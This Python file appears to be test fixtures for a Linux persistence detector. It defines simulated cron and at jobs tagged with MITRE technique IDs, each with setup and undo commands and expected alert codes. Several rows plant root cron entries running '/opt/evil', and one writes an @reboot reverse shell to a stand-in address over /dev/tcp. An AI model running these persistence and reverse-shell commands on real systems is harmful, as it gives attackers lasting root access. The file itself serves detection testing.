# SPDX-License-Identifier: GPL-3.0-or-later
"""What cron and at are made to run."""

from actions import Action


def job(number: str, what: str, do: str, undo: str, *, title: str, **words: str) -> Action:
    told = {"technique": "T1053.003", "code": "cron_job_added", "severity": "warning", **words}
    places = "mkdir -p /etc/cron.d /etc/cron.weekly /var/spool/cron/crontabs /var/spool/cron/atjobs"
    return Action(number, told.pop("technique"), what, do, undo, check="cron", title=title, before=places, **told)


ROWS = [
    job(
        "A13",
        "a file in /etc/cron.d",
        "echo '*/5 * * * * root /opt/evil' >/etc/cron.d/x",
        "rm /etc/cron.d/x",
        title="/etc/cron.d/x: root runs /opt/evil, */5 * * * *",
    ),
    job(
        "A13b",
        "a shell to the network at each boot",
        "echo '@reboot root /bin/bash -c \"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"' >/etc/cron.d/x",
        "rm /etc/cron.d/x",
        code="cron_suspicious",
        severity="critical",
        title="/etc/cron.d/x: root runs *, @reboot: a shell connects to the network",
    ),
    job(
        "A14",
        "root's own crontab",
        "echo '0 4 * * * /opt/evil' >/var/spool/cron/crontabs/root",
        "rm /var/spool/cron/crontabs/root",
        title="/var/spool/cron/crontabs/root: root runs /opt/evil, 0 4 * * *",
    ),
    job(
        "A15",
        "a script in cron.weekly",
        "install -m 755 /bin/true /etc/cron.weekly/x",
        "rm /etc/cron.weekly/x",
        title="/etc/cron.weekly/x: root runs /etc/cron.weekly/x, cron.weekly",
    ),
    job(
        "A16",
        "a job of at",
        "printf '#!/bin/sh\\n# atrun uid=0 gid=0\\n/opt/evil\\n' "
        ">/var/spool/cron/atjobs/a000010700a0b0; chmod 700 /var/spool/cron/atjobs/a000010700a0b0",
        "rm /var/spool/cron/atjobs/a000010700a0b0",
        technique="T1053.002",
        title="/var/spool/cron/atjobs/a000010700a0b0: root runs /opt/evil, *",
    ),
]
